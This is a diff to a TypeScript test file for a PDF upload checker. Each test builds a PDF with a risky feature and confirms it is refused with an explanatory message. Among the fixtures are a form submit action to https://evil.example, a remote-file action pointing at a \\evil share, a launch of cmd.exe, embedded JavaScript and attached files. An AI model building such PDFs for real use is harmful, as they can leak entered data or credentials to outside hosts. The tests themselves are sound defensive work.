@@ -9,6 +9,9 @@ const SCRIPT = "This PDF runs a script, which is not accepted. Print it to a new
 const LAUNCH = "This PDF starts another program, which is not accepted. Print it to a new PDF, and upload that.";
 const ATTACHED =
   "This PDF carries another file inside it, which is not accepted. Print it to a new PDF, and upload that.";
+const SENDS =
+  "This PDF sends what is entered in it to somebody, which is not accepted. Print it to a new PDF, and upload that.";
+const ELSEWHERE = "This PDF opens another file, which is not accepted. Print it to a new PDF, and upload that.";
 const PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]";
 
 async function refusal(bytes: Buffer, name = "a.pdf"): Promise<string | undefined> {
@@ -39,6 +42,13 @@ test.each([
   ["the same in a stream that does not say what it is", packed("<< /JS (x) >>", "/OpenAction 9 0 R", ""), SCRIPT],
   ["a program that it starts", pdfWith("/OpenAction 4 0 R", "/S /Launch /F (cmd.exe)"), LAUNCH],
   ["a file inside", pdfWith("/Names << /EmbeddedFiles 4 0 R >>", "/Names [(a) 5 0 R]", "/EF << /F 6 0 R >>"), ATTACHED],
+  ["a button that sends what is entered", pdfWith("", "/S /SubmitForm /F (https://evil.example)"), SENDS],
+  [
+    "a file on another machine",
+    pdfWith("/OpenAction 4 0 R", "/S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit]"),
+    ELSEWHERE,
+  ],
+  ["a form in XML", pdfWith("/AcroForm << /XFA 4 0 R >>", "/Type /Form"), SCRIPT],
   ["a file at a note", pdfWith("", "/Type /Annot /Subtype /FileAttachment /FS 5 0 R"), ATTACHED],
   ["a packed file", packed("<< /Type /Filespec /EF << /F 8 0 R >> >>", ""), ATTACHED],
 ])("a PDF with %s is refused, and told why", { timeout: TIMEOUT }, async (_, bytes, message) => {
